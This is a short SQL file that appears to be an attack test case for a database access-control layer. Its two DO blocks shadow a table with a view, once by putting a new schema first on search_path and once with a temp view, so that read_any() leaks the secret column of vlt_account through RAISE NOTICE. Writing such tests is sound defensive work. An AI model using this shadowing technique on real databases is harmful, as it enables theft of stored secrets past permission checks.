-- Puts a view of a function that runs a text in front of an own table, in the same block.
-- wants: read
-- attack:
DO $$ BEGIN
  CREATE SCHEMA front;
  CREATE VIEW front.mallory_own AS SELECT read_any('SELECT secret FROM vlt_account LIMIT 1') AS v;
  PERFORM set_config('search_path', 'front, public', true);
  RAISE NOTICE '%', (SELECT v FROM mallory_own LIMIT 1);
END $$;
DO $$ BEGIN
  CREATE TEMP VIEW mallory_own AS SELECT read_any('SELECT secret FROM vlt_account LIMIT 1') AS v;
  RAISE NOTICE '%', (SELECT v FROM mallory_own LIMIT 1);
END $$;
